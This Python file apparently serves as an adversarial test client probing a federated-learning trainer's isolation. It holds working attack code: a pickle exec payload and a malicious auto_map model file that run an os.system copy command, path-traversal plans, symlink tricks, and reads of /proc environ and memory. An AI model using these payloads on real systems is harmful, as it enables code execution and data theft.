"""The hostile ClientApp: sends every possible request to the site's trainer, and searches the machine.

It can import what is installed at the site, and gets paths and process ids from the coordinator.
"""

from __future__ import annotations

import ctypes
import json
import os
import pickle
import shutil
import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import grpc
import numpy as np
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

from colora.client.trainer_service import serde
from colora.client.trainer_service.client import connect
from colora.client.trainer_service.proto import trainer_pb2 as pb
from colora.client.trainer_service.proto import trainer_pb2_grpc
from colora.common.config.schema import Plan, parse
from colora.common.methods import METHODS, SHARED
from colora.common.protocol.types import PROTOCOL, TrainRequest

MOST = 1 << 18  # bytes of one thing
SERVICE = "/colora.trainer.v1.Trainer/"
WIDTH, LAYERS = 16, 2  # of the tiny base model
app = ClientApp()
Raw = dict[str, Any]


@app.query()
def steal(message: Message, context: Context) -> Message:
    targets = json.loads(str(message.content.config_records["request"]["targets"]))
    thief = Thief(targets)
    attempts = [thief.lead, thief.look_around]
    if not targets["sites"][thief.site.name]["open"]:
        attempts += [thief.ask_for_anything, thief.plans, thief.requests]
    for attempt in attempts:
        try:
            attempt()
        except Exception as error:
            thief.take(f"broken: {attempt.__name__}", repr(error))
    return Message(RecordDict({"loot": ConfigRecord(thief.loot)}), reply_to=message)


class Thief:
    """Collects what it gets in ``loot``, by description."""

    def __init__(self, targets: Raw) -> None:
        self.loot: Raw = {}
        self.plan: Raw = targets["plan"]
        self.drop = Path(targets["drop"])
        self.site = connect()
        self.others: dict[str, Raw] = dict(targets["sites"])
        own = self.others.pop(self.site.name)
        self.paths: list[str] = [path for each in (own, *self.others.values()) for path in each["paths"]]
        self.pids: list[int] = [pid for each in (own, *self.others.values()) for pid in each["pids"]]

    def take(self, what: str, data: bytes | str) -> None:
        self.loot[f"{len(self.loot)} {what}"] = (data.encode() if isinstance(data, str) else data)[:MOST]

    def call(self, what: str, ask: Callable[[trainer_pb2_grpc.TrainerStub, grpc.Channel], Any]) -> list[Any]:
        """Collect everything that one call returns, including errors."""
        answers = []
        with self.site.channel() as channel:
            try:
                answer = ask(trainer_pb2_grpc.TrainerStub(channel), channel)
                for part in answer if hasattr(answer, "__next__") else [answer]:
                    answers.append(part)
                    self.take(what, part if isinstance(part, bytes) else part.SerializeToString())
            except grpc.RpcError as error:
                said = (error.code(), error.details(), error.trailing_metadata(), error.debug_error_string())
                self.take(f"error: {what}", "\n".join(map(str, said)))
        return answers

    # --- normal requests ---------------------------------------------------------------------------------

    def lead(self) -> None:
        """Send two rounds and the final request, so that the site has states."""
        for t, phase in ((1, "train"), (2, "train"), (3, "finalize")):
            self.train(f"lead {t}", self.plan, t, kind=phase, admitted_round=t - 1, evaluate=True)

    # --- other gRPC methods ------------------------------------------------

    def ask_for_anything(self) -> None:
        names = ["Dump", "GetState", "Export", "Core", "Head", "Rows", "Audit", "GetSiteInfo", "Train/", "../Train", ""]
        reflection = [f"/grpc.reflection.{v}.ServerReflection/ServerReflectionInfo" for v in ("v1", "v1alpha")]
        channelz = [f"/grpc.channelz.v1.Channelz/{name}" for name in ("GetServers", "GetTopChannels", "GetSockets")]
        health = [f"/grpc.health.v1.Health/{name}" for name in ("Check", "List")]
        for path in (*(SERVICE + name for name in names), *reflection, *channelz, *health):
            self.call(path, lambda _, channel, p=path: channel.unary_unary(p)(b"", timeout=30))
            self.call(path, lambda _, channel, p=path: channel.stream_stream(p)(iter([b"\x0a\x01*"]), timeout=30))

    # --- plans -----------------------------------------------------------------------------------------

    def changed(self, federation: str, **tables: Raw) -> Raw:
        plan = {**self.plan, "name": federation}
        for table, values in tables.items():
            plan[table] = {**plan.get(table, {}), **values}
        return plan

    def wishes(self) -> Iterator[tuple[str, Raw]]:
        """Plans that share more or use other models, in the site's federation and in others."""
        town = self.plan["name"]
        for name in METHODS:
            for more in (
                {},
                {"head": "shared"},
                {"A": "shared", "B": "shared"},
                {"core": "shared"},
                {"private": "shared"},
            ):
                yield f"method {name} {more}", self.changed(town, method={"name": name, **more})
            yield f"method {name} elsewhere", self.changed(f"{name}-town", method={"name": name})
        yield "method all", self.changed(town, method={"name": "all", "core": "shared", "head": "shared"})
        for rank in (1, 64):
            yield f"rank {rank}", self.changed(town, adapter={"rank": rank})
        for modules in (
            "all-linear",
            ".*",
            ".*lora_core.*",
            ["head"],
            ["classifier", "lora_core"],
            ["word_embeddings"],
        ):
            yield f"modules {modules}", self.changed(town, adapter={"target_modules": modules})
        for steps in (0, 1, 3):
            yield f"steps {steps}", self.changed(town, train={"steps": steps, "lr": 0.0})
        for length in (0, 1, 10**9):
            yield f"length {length}", self.changed(town, model={"max_length": length})
        for source in (*self.paths, *self.models(), "/proc/self/environ", "/proc/self/cwd", "..", "asset:x"):
            yield f"source {source}", self.changed(town, model={"source": source})
        for federation in ("../state", "..", "/etc", "", "logs", town.upper(), "x" * 65, "a/b"):
            yield f"federation {federation}", self.changed(federation)

    def plans(self) -> None:
        for what, plan in self.wishes():
            described = self.call(f"describe {what}", lambda stub, _, p=plan: stub.GetSiteInfo(self.question(p)))
            classes = described[0].classes if described else 2
            self.train(what, plan, 1, classes=classes)
            if described:
                self.train(f"{what}, close", plan, 2, kind="finalize", classes=classes)
        raw = json.dumps(self.plan)
        for text in ("", "[]", "{}", "null", raw[:-1], raw.replace("colora", "col\x00ora"), raw + raw):
            self.call("text", lambda stub, _, t=text: stub.GetSiteInfo(pb.SiteInfoRequest(plan=t, protocol=PROTOCOL)))
        self.call("version", lambda stub, _: stub.GetSiteInfo(pb.SiteInfoRequest(plan=raw, protocol=99)))

    def question(self, plan: Raw) -> pb.SiteInfoRequest:
        return pb.SiteInfoRequest(federation=plan["name"], plan=json.dumps(plan), protocol=PROTOCOL)

    def models(self) -> Iterator[str]:
        """Create folders that look like the base model, with code, a pickle, or links to the site's rows in them."""
        steal = f"import os\nos.system('cp -r {' '.join(self.paths)} {self.drop}/taken; chmod -R a+rX {self.drop}')\n"

        class Pickle:
            def __reduce__(self) -> tuple[Any, tuple[str]]:
                return exec, (steal,)

        for kind in ("code", "pickle", "template", "config"):
            folder = self.drop / f"{self.site.name}-{kind}"
            shutil.copytree(self.plan["model"]["source"], folder)
            if kind == "code":
                (folder / "evil.py").write_text(steal)
                for file, names in (
                    ("config.json", ("AutoConfig", "AutoModel")),
                    ("tokenizer_config.json", ("AutoTokenizer",)),
                ):
                    config = json.loads((folder / file).read_text())
                    config |= {"model_type": "evil", "auto_map": dict.fromkeys(names, "evil.Evil")}
                    (folder / file).write_text(json.dumps(config))
            if kind == "pickle":
                (folder / "model.safetensors").unlink()
                (folder / "pytorch_model.bin").write_bytes(pickle.dumps({"x": Pickle()}))
            for link in {"template": ["chat_template.jinja"], "config": ["config.json", "vocab.txt"]}.get(kind, ()):
                (folder / link).unlink(missing_ok=True)
                (folder / link).symlink_to(self.paths[0])
            os.system(f"chmod -R a+rX {folder}")
            yield str(folder)

    # --- requests ----------------------------------------------------------------------------------------

    def arrays(self, plan: Raw, seed: int, classes: int = 2) -> dict[str, np.ndarray]:
        """Return random values for the shared groups of a plan with the tiny model."""
        rng, rank = np.random.default_rng(abs(seed)), plan["adapter"]["rank"]
        try:
            row = parse(Plan, plan).method.row()
        except Exception:
            row = METHODS["colora"]
        targets = [t for t in plan["adapter"]["target_modules"] if t in ("query", "value")] or ["query", "value"]
        places = [f"encoder.layer.{n}.attention.self.{t}" for n in range(LAYERS) for t in targets]
        shapes = {f"{place}.lora_A.weight": (rank, WIDTH) for place in places if row.A is SHARED}
        shapes |= {f"{place}.lora_B.weight": (WIDTH, rank) for place in places if row.B is SHARED}
        if row.head is SHARED:
            shapes |= {"head.classifier.weight": (classes, WIDTH), "head.classifier.bias": (classes,)}
        return {key: rng.normal(0, 0.3, shape).astype(np.float32) for key, shape in shapes.items()}

    def train(self, what: str, plan: Raw, t: int, *, classes: int = 2, **changes: Any) -> None:
        values = {
            "kind": "train",
            "admitted_round": 0,
            "evaluate": False,
            "shared": self.arrays(plan, t, classes),
            **changes,
        }
        request = TrainRequest(plan["name"], t, plan=json.dumps(plan), **values)
        self.call(f"train {what}", lambda stub, _: stub.Train(serde.request_parts(request)))

    def requests(self) -> None:
        """Send other arrays, rounds and kinds in the allowed plan, old rounds again, and rounds out of order."""
        shared = self.arrays(self.plan, 1)
        personal = [key.replace("lora_A.weight", "lora_core") for key in shared if "lora_A" in key]
        for name in (*personal, "head.classifier.weight", "state/head.classifier.weight", "moments/x", "core", "*"):
            square = np.ones((4, 4), np.float32)
            self.train(f"with {name}", self.plan, 4, shared={**shared, name: square})
            self.train(f"only {name}", self.plan, 4, shared={name: square})
            self.train(f"close with {name}", self.plan, 4, kind="finalize", shared={**shared, name: square})
        self.train("nothing", self.plan, 4, shared={})
        for value in (0.0, np.nan, 1e30):
            same = {key: np.full_like(array, value) for key, array in shared.items()}
            self.train(f"all {value}", self.plan, 5, shared=same, admitted_round=2)
            self.train(f"all {value}, close", self.plan, 6, kind="finalize", shared=same, admitted_round=2)
        for t, admitted in ((1, 0), (2, 1), (3, 2), (2, 0), (1, 1), (0, 0), (-1, -2), (9, 2), (10**6, 3), (2**62, 1)):
            for phase in ("train", "finalize"):
                self.train(f"round {t} after {admitted} {phase}", self.plan, t, admitted_round=admitted, kind=phase)
        for phase in ("state", "export", ""):
            self.train(f"phase {phase}", self.plan, 4, admitted_round=2, kind=phase)
        head, *chunks = serde.request_parts(
            TrainRequest(self.plan["name"], 7, "train", 2, json.dumps(self.plan), shared, True)
        )
        for name, sent in {
            "no head": chunks,
            "no end": [head, *chunks[:1]],
            "twice": [head, *chunks, *chunks],
            "": [head],
        }.items():
            self.call(f"parts {name}", lambda stub, _, s=sent: stub.Train(iter(s)))

    # --- the machine ---------------------------------------------------------------------------------------------

    def look_around(self) -> None:
        """Try to read files, sockets and memory, as the user of this process."""
        for path in self.paths:
            self.read(Path(path))
            for folder, _, files in os.walk(path):
                for name in files:
                    self.read(Path(folder) / name)
            with suppress(OSError):
                os.link(path, f"{self.drop}/{self.site.name}-link-{len(self.loot)}")
                self.take(f"link: {path}", "made")
        for pid in self.pids:
            place = Path(f"/proc/{pid}")
            for name in ("environ", "maps", "mem", "auxv", "stack", "io", "cmdline", "status"):
                self.read(place / name)
            for name in ("fd", "cwd", "root", "task", "map_files"):
                with suppress(OSError):
                    self.take(f"list: {place / name}", "\n".join(os.listdir(place / name)))
            self.memory(pid)
            if ctypes.CDLL(None).ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
                self.take(f"traced: {pid}", "yes")
        for site in self.others.values():
            self.connect_to(site["listen"])

    def read(self, path: Path) -> None:
        with suppress(OSError), path.open("rb") as file:
            self.take(f"file: {path}", file.read(MOST))

    def memory(self, pid: int) -> None:
        """Read the first pages of a process's heap."""
        with suppress(OSError, StopIteration, ValueError):
            heap = next(line for line in Path(f"/proc/{pid}/maps").read_text().splitlines() if line.endswith("[heap]"))
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
                file.seek(int(heap.partition("-")[0], 16))
                self.take(f"memory: {pid}", file.read(MOST))

    def connect_to(self, address: str) -> None:
        """Connect to another site's trainer: to its socket, or to its port with this site's certificates."""
        if address.startswith("unix:"):
            with suppress(OSError), socket.socket(socket.AF_UNIX) as door:
                door.connect(address.removeprefix("unix:"))
                self.take(f"connected: {address}", "yes")
        elif address != self.site.address and not self.site.address.startswith("unix:"):
            own, self.site.address = self.site.address, address
            self.call("another's trainer", lambda stub, _: stub.GetSiteInfo(self.question(self.plan), timeout=10))
            self.site.address = own
